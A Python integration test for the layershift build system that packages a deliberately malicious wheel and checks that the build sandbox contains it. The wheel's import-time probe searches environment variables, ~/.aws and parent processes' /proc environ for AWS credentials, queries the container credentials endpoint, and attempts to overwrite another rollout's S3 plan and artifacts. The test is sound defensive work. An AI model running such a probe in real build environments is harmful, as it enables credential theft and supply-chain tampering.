"""A malicious wheel built by a real rollout: on import it hunts for the build's AWS credentials and tries
to overwrite another layer's rollout plan and artifacts. It finds nothing, writes nothing, and the
manifest shows what it tried.

The wheel is offered to the build through a find-links folder (``PIP_FIND_LINKS``, which the local
build container passes through from the host, as a CodeBuild project's environment would).
"""

from __future__ import annotations

import base64
import hashlib
import json
import textwrap
import zipfile
from pathlib import Path

import pytest

from layershift.controlplane import ControlPlane
from layershift_core.builder.sandbox import network_isolation

from .support import run_rollout, spec

pytestmark = [pytest.mark.integration, pytest.mark.network]

VICTIM_PLAN = "rollouts/victim/r0/plan.json"
VICTIM_ZIP = "artifacts/victim/" + "v" * 64 + "/python3.13-any/layer.zip"

PROBE = (
    textwrap.dedent(
        '''
    """Import-time probe: what a malicious package would try inside the build."""
    import json, os, sys, urllib.request

    CREDENTIALS = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN",
                   "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "AWS_CONTAINER_CREDENTIALS_FULL_URI",
                   "AWS_WEB_IDENTITY_TOKEN_FILE", "AWS_PROFILE")
    report = {"environment": sorted(n for n in CREDENTIALS if os.environ.get(n))}
    home = os.path.expanduser("~/.aws")
    report["home_aws"] = os.path.exists(home)
    ancestors, pid = [], os.getppid()
    while pid > 1 and len(ancestors) < 8:
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                names = [e.split(b"=", 1)[0].decode() for e in fh.read().split(b"\\0") if b"=" in e]
            ancestors.append({"pid": pid, "credentials": sorted(n for n in names if n in CREDENTIALS)})
        except OSError as exc:
            ancestors.append({"pid": pid, "denied": type(exc).__name__})
        try:
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
    report["ancestors"] = ancestors
    try:
        urllib.request.urlopen("http://169.254.170.2" + os.environ.get("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/"),
                               timeout=2)
        report["container_endpoint"] = "answered"
    except Exception as exc:
        report["container_endpoint"] = type(exc).__name__
    endpoint, bucket = os.environ.get("AWS_ENDPOINT_URL", ""), os.environ.get("LAYERSHIFT_BUCKET", "")
    report["endpoint"], report["bucket"] = endpoint, bucket
    writes = {}
    minor = "python%d.%d" % sys.version_info[:2]
    for path in os.environ.get("PYTHONPATH", "").split(os.pathsep):  # the builder's own layer has boto3
        for candidate in (path, os.path.join(path, "lib", minor, "site-packages")):
            if path and candidate not in sys.path:
                sys.path.append(candidate)
    try:
        import boto3
        s3 = boto3.client("s3", endpoint_url=endpoint or None, region_name="us-east-1")
        for key in (VICTIM_PLAN, VICTIM_ZIP):
            try:
                s3.put_object(Bucket=bucket, Key=key, Body=b"planted")
                writes["boto3 " + key] = "WRITTEN"
            except Exception as exc:
                writes["boto3 " + key] = type(exc).__name__
    except ImportError as exc:
        writes["boto3"] = "ImportError: " + str(exc)
    for key in (VICTIM_PLAN, VICTIM_ZIP):
        try:
            request = urllib.request.Request(f"{endpoint}/{bucket}/{key}", data=b"planted", method="PUT")
            urllib.request.urlopen(request, timeout=2)
            writes["anonymous " + key] = "WRITTEN"
        except Exception as exc:
            writes["anonymous " + key] = type(exc).__name__
    report["writes"] = writes
    print("layershift-probe: " + json.dumps(report, sort_keys=True))
    '''
    )
    .replace("VICTIM_PLAN", repr(VICTIM_PLAN))
    .replace("VICTIM_ZIP", repr(VICTIM_ZIP))
)


# The version follows the probe's source, so the builder's local cache (keyed by the requirements)
# never serves the manifest of another probe.
VERSION = f"1.0.post{int(hashlib.sha256(PROBE.encode()).hexdigest()[:8], 16)}"


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def build_probe_wheel(folder: Path) -> Path:
    """``layershift_probe-<VERSION>-py3-none-any.whl``: one module, ``layershift_probe``, that runs PROBE on import."""
    dist = f"layershift_probe-{VERSION}.dist-info"
    files = {
        "layershift_probe/__init__.py": PROBE.encode(),
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: layershift-probe\nVersion: {VERSION}\n".encode(),
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: layershift-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{dist}/top_level.txt": b"layershift_probe\n",
    }
    record = "".join(f"{name},{_record_hash(data)},{len(data)}\n" for name, data in files.items())
    record += f"{dist}/RECORD,,\n"
    folder.mkdir(parents=True, exist_ok=True)
    wheel = folder / f"layershift_probe-{VERSION}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        archive.writestr(f"{dist}/RECORD", record)
    return wheel


def _snapshot(cp: ControlPlane, prefixes: tuple[str, ...]) -> dict[str, str]:
    s3 = cp.client("s3")
    found: dict[str, str] = {}
    for prefix in prefixes:
        for item in s3.list_objects_v2(Bucket=cp.bucket, Prefix=prefix).get("Contents", []):
            found[item["Key"]] = item["ETag"]
    return found


def test_a_malicious_wheel_finds_no_credentials_and_writes_nothing(
    control_plane: ControlPlane, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    isolation = network_isolation()
    if not isolation.isolated:
        pytest.skip(
            "this host refuses a network namespace, and the local S3 takes anonymous writes (AWS refuses them): "
            + isolation.note
        )
    cp = control_plane
    s3 = cp.client("s3")
    s3.put_object(Bucket=cp.bucket, Key=VICTIM_PLAN, Body=json.dumps({"targets": []}).encode())
    s3.put_object(Bucket=cp.bucket, Key=VICTIM_ZIP, Body=b"PK the victim's layer")
    victim = ("rollouts/victim/", "artifacts/victim/")
    before = _snapshot(cp, victim)
    monkeypatch.setenv("PIP_FIND_LINKS", str(build_probe_wheel(tmp_path / "wheels").parent))

    rollout = run_rollout(cp, "hostile", f"layershift-probe=={VERSION}\n", spec())

    assert "PublishLayerVersion" in rollout.states_entered(), rollout.lines
    assert _snapshot(cp, victim) == before
    assert s3.get_object(Bucket=cp.bucket, Key=VICTIM_ZIP)["Body"].read() == b"PK the victim's layer"
    # what the module tried is in the manifest the control plane verified and copied
    manifests = [
        item["Key"]
        for item in s3.list_objects_v2(Bucket=cp.bucket, Prefix="artifacts/hostile/").get("Contents", [])
        if item["Key"].endswith("/manifest.json")
    ]
    assert manifests, "the build's manifest was not copied into artifacts/"
    manifest = json.loads(s3.get_object(Bucket=cp.bucket, Key=manifests[0])["Body"].read())
    smoke = manifest["smoke_test"]
    assert smoke["ran"] and smoke["network"] == isolation.note
    (line,) = [
        line for run in smoke["runs"] for line in run["output"].splitlines() if line.startswith("layershift-probe: ")
    ]
    report = json.loads(line.removeprefix("layershift-probe: "))
    assert report["environment"] == [] and report["home_aws"] is False
    assert all(not a.get("credentials") for a in report["ancestors"]), report["ancestors"]
    # the build job itself, which holds the credentials, is closed to it
    assert report["ancestors"][0].get("denied") == "PermissionError", report["ancestors"]
    assert report["container_endpoint"] != "answered"
    assert report["endpoint"] and report["bucket"] == cp.bucket  # it knew where to write
    assert report["writes"] and "WRITTEN" not in report["writes"].values(), report["writes"]
    assert report["writes"].get("boto3 " + VICTIM_PLAN) == "NoCredentialsError"
